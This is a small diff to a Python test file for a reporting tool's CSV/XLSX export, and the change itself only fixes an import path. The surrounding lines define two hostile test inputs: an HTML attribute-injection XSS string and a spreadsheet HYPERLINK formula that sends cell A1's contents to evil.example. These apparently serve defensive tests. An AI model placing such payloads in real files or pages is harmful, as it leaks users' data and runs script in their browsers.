@@ -11,7 +11,7 @@ import pytest
 from goldenthread.reporting.data import build_report
 from goldenthread.reporting.export import to_csv, to_xlsx
 from goldenthread.core import roles
-from tests.reports.conftest import BUS
+from tests.reporting.conftest import BUS
 
 PAYLOAD = 'Buses" onfocus="alert(1)" autofocus="'
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click for the real numbers")'
